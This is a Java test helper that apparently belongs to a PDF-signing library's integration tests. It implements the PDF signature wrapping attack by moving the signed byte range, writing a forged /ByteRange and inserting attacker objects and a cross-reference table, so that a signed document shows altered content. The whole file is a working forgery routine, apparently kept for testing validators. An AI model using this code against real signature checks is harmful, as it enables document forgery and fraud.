package org.sigillum.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The signature wrapping attack on PDF (Mladenov et al., "1 Trillion Dollar Refund", 2019). A signature covers the
 * bytes its /ByteRange names: the first part up to /Contents, and the second part after it. Where /ByteRange itself
 * sits in the second part, the attacker moves that whole part further down the file, writes a new /ByteRange that
 * points to the moved bytes, and fills the space between with objects of their own and a cross-reference section
 * exactly where the signed last startxref points. The bytes the new /ByteRange names are still exactly the signed
 * bytes, but a reader that follows the signed startxref gets the attacker's objects.
 */
final class SignatureWrapping {

    private static final Pattern BYTE_RANGE =
            Pattern.compile("/ByteRange\\s*\\[\\s*0\\s+(\\d+)\\s+(\\d+)\\s+(\\d+)\\s*\\]\\s*");
    private static final Pattern SUBSECTION = Pattern.compile("(\\d+)\\s+(\\d+)\\s*\\n");
    private static final Pattern ENTRY = Pattern.compile("(\\d{10}) (\\d{5}) ([nf])");

    private SignatureWrapping() {
    }

    /** {@code signed} with object {@code number} replaced by {@code body}, and its signed bytes moved as described. */
    static byte[] wrap(byte[] signed, int number, String body) {
        String pdf = PdfUpdates.latin1(signed);
        Matcher range = BYTE_RANGE.matcher(pdf);
        assertTrue(range.find(), "a signed PDF has a /ByteRange");
        int firstLength = Integer.parseInt(range.group(1));
        int secondStart = Integer.parseInt(range.group(2));
        int secondLength = Integer.parseInt(range.group(3));
        assertEquals(signed.length, secondStart + secondLength, "the signature covers the last revision");
        assertTrue(range.start() >= secondStart, "this variant needs /ByteRange after /Contents, in the second part");
        int xref = (int) PdfUpdates.lastStartxref(signed);
        Map<Integer, Long> entries = crossReferences(pdf, xref);

        // the second part up to its end of the signature dictionary, with the new range of the same length
        int dictionaryEnd = pdf.indexOf("endobj", range.end()) + "endobj\n".length();
        String tail = pdf.substring(range.end(), dictionaryEnd);
        ByteArrayOutputStream wrapped = new ByteArrayOutputStream();
        wrapped.write(signed, 0, range.start());
        int rangeAt = wrapped.size();
        PdfUpdates.write(wrapped, " ".repeat(range.end() - range.start()) + tail);
        long replacement = wrapped.size();
        PdfUpdates.write(wrapped, number + " 0 obj\n" + body + "\nendobj\n");
        assertTrue(wrapped.size() < xref, "the attacker's objects fit before the signed startxref's offset");
        PdfUpdates.write(wrapped, "%".repeat(xref - wrapped.size() - 1) + "\n");

        entries.put(number, replacement);
        int movedLength = crossReferenceSection(entries, pdf, xref).length();
        long moved = xref + movedLength;
        long shift = moved - secondStart;
        entries.replaceAll((object, offset) -> offset >= secondStart && object != number ? offset + shift : offset);
        PdfUpdates.write(wrapped, crossReferenceSection(entries, pdf, xref));
        assertEquals(moved, wrapped.size());
        wrapped.write(signed, secondStart, secondLength);

        byte[] result = wrapped.toByteArray();
        String newRange = "/ByteRange [0 " + firstLength + " " + moved + " " + secondLength + "]";
        byte[] rangeBytes = newRange.getBytes(StandardCharsets.ISO_8859_1);
        assertTrue(rangeBytes.length <= range.end() - range.start(), "the new /ByteRange fits the old one's place");
        System.arraycopy(rangeBytes, 0, result, rangeAt, rangeBytes.length);
        return result;
    }

    /** The last cross-reference table's entries in use, by object number. */
    private static Map<Integer, Long> crossReferences(String pdf, int xref) {
        assertTrue(pdf.startsWith("xref", xref), "the last revision has a cross-reference table");
        String table = pdf.substring(xref + "xref".length(), pdf.indexOf("trailer", xref));
        Map<Integer, Long> entries = new TreeMap<>();
        Matcher subsection = SUBSECTION.matcher(table);
        int at = 0;
        while (subsection.find(at)) {
            int first = Integer.parseInt(subsection.group(1));
            int count = Integer.parseInt(subsection.group(2));
            Matcher entry = ENTRY.matcher(table);
            at = subsection.end();
            for (int i = 0; i < count; i++) {
                assertTrue(entry.find(at), "entry " + i + " of subsection " + first);
                if (entry.group(3).equals("n")) {
                    entries.put(first + i, Long.parseLong(entry.group(1)));
                }
                at = entry.end();
            }
        }
        return entries;
    }

    /** A cross-reference table, the signed trailer (its /Prev leads to the first revision) and the signed startxref. */
    private static String crossReferenceSection(Map<Integer, Long> entries, String pdf, int xref) {
        StringBuilder section = new StringBuilder("xref\n");
        entries.forEach((number, offset) -> section.append(number).append(" 1\n").append(PdfUpdates.entry(offset)));
        int trailer = pdf.indexOf("trailer", xref);
        int end = Math.min(pdf.length(), pdf.indexOf("%%EOF", trailer) + "%%EOF\n".length());
        return section.append(pdf, trailer, end).toString();
    }
}
